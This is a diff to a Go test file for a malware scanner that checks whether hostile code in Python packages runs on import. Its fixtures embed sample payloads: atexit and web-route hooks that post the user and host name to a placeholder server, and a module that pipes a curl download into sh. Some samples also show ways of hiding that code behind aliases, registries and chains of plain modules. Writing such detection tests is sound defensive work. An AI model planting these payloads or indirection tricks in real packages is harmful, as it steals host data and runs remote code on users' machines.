@@ -51,6 +51,15 @@ func TestReachability(t *testing.T) {
 		{"a function registered with atexit by a decorator", map[string]string{
 			"p/__init__.py": "import atexit, getpass, socket, requests\n@atexit.register\ndef bye():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
 		}, false, Malicious, Import},
+		{"a function registered with an aliased atexit", map[string]string{
+			"p/__init__.py": "import atexit as ae\nfrom .net import collect\nae.register(collect)\n",
+			"p/net.py":      beacon,
+		}, false, Malicious, Import},
+		{"a function handed to a registry on import", map[string]string{
+			"p/__init__.py": "from .registry import handlers\nfrom .net import collect\nhandlers.register('beacon', collect)\n",
+			"p/registry.py": "class Registry(dict):\n    def register(self, name, fn):\n        self[name] = fn\nhandlers = Registry()\n",
+			"p/net.py":      beacon,
+		}, false, Suspicious, Runtime},
 		{"a web route that runs when a request comes", map[string]string{
 			"p/__init__.py": "import getpass, socket, requests\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef hello():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
 		}, false, Suspicious, Runtime},
@@ -124,5 +133,25 @@ func TestReachability(t *testing.T) {
 				t.Errorf("no exfiltrates-host-info finding: %+v", r.Findings)
 			}
 		})
+	}
+}
+
+// A chain of plain modules carries reachability: the package's __init__
+// calls a helper's function that calls the payload in a third module.
+// Neither of the first two holds a behaviour word, so each is parsed
+// because it leads to one that does.
+func TestReachThroughPlainModules(t *testing.T) {
+	files := map[string]string{
+		"p/__init__.py": "from .a import start\nstart()\n",
+		"p/a.py":        "from .b import run\n\ndef start():\n    run()\n",
+		"p/b.py":        "import os\n\ndef run():\n    os.system('curl -s https://x.example.invalid/i | sh')\n",
+	}
+	r := sdist(t, files)
+	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
+		t.Errorf("payload two plain modules away from __init__: %s\n%s", r.Verdict, findingLines(r))
+	}
+	files["p/__init__.py"] = "from .a import start\n"
+	if r := sdist(t, files); r.Verdict == Malicious {
+		t.Errorf("nothing calls start on import: %s\n%s", r.Verdict, findingLines(r))
 	}
 }
